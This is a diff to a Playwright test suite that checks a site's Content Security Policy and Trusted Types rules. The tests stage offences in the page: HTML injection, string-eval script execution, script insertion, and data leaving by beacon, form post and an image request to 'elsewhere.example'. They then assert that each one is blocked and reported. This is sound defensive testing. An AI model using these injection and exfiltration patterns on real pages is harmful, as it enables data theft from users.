@@ -1,17 +1,101 @@
-import { expect, test } from '@playwright/test';
+import { socket503Anywhere } from './pastes.ts';
+import { expect, test, watchPolicy } from './wizard.ts';
 
-test('the site runs under its strict policy without a complaint', async ({ page }) => {
-  const complaints: string[] = [];
-  page.on('console', (message) => {
-    if (message.type() === 'error') complaints.push(message.text());
-  });
-  page.on('pageerror', (error) => complaints.push(error.message));
-
-  await page.goto('./');
+test('the site, its worker and its written pages run under the policy without a complaint', async ({
+  wizard,
+  page,
+}) => {
+  await wizard.open();
+  // A file is read in a worker, whose address is the only one that a script may be given.
+  const worker = page.waitForEvent('worker');
+  await wizard.chooseFile({ name: 'error.log', content: socket503Anywhere });
+  expect((await worker).url()).toContain('/assets/reading.worker-');
+  await expect(wizard.remedy).toBeVisible();
+  await page.goto('./codes/WSGI0117/');
   await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
-
-  expect(complaints).toEqual([]);
 });
+
+/** What a mistake of ours or a hostile log would do, and the rule that forbids it. */
+const offences: Readonly<Record<string, { readonly rule: string; readonly offend: () => void }>> = {
+  'text becomes markup': {
+    rule: 'require-trusted-types-for',
+    offend: () => {
+      document.body.insertAdjacentHTML('beforeend', '<b>no</b>');
+    },
+  },
+  'a text is run': {
+    rule: 'require-trusted-types-for',
+    offend: () => {
+      // eslint-disable-next-line @typescript-eslint/no-implied-eval -- it is what must not work
+      setTimeout('document.title = "run"');
+    },
+  },
+  'a script stands in the page': {
+    rule: 'require-trusted-types-for',
+    offend: () => {
+      const script = document.createElement('script');
+      script.append('document.title = "run"');
+      document.body.append(script);
+    },
+  },
+  'a worker of no policy starts': {
+    rule: 'require-trusted-types-for',
+    offend: () => {
+      new Worker('./assets/other.js');
+    },
+  },
+  'another policy is made': {
+    rule: 'trusted-types',
+    offend: () => {
+      const { trustedTypes } = window as unknown as {
+        trustedTypes: { createPolicy: (name: string, rules: object) => void };
+      };
+      trustedTypes.createPolicy('other', {});
+    },
+  },
+  'a request leaves': {
+    rule: 'connect-src',
+    offend: () => {
+      navigator.sendBeacon('./collect', 'text');
+    },
+  },
+  'an image tells another host': {
+    rule: 'img-src',
+    offend: () => {
+      new Image().src = 'https://elsewhere.example/?text';
+    },
+  },
+  'a style is written in': {
+    rule: 'style-src-attr',
+    offend: () => {
+      document.body.setAttribute('style', 'color: red');
+    },
+  },
+  'a form is sent': {
+    rule: 'form-action',
+    offend: () => {
+      const form = document.createElement('form');
+      form.action = './collect';
+      document.body.append(form);
+      form.submit();
+    },
+  },
+};
+
+for (const [what, { rule, offend }] of Object.entries(offences)) {
+  test(`the policy forbids that ${what}, and says so`, async ({ page }) => {
+    const violations: string[] = [];
+    await watchPolicy(page, (violation) => violations.push(violation));
+    await page.goto('./');
+    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
+    await page.evaluate(offend).catch(() => undefined);
+
+    await expect(() => {
+      expect(violations.join('\n')).toContain(`policy: ${rule}`);
+    }).toPass({ timeout: 5000 });
+    expect(await page.title()).not.toBe('run');
+  });
+}
 
 test('the policy lets nothing out, on any host and framed by no other', async ({ request }) => {
   const response = await request.get('./');
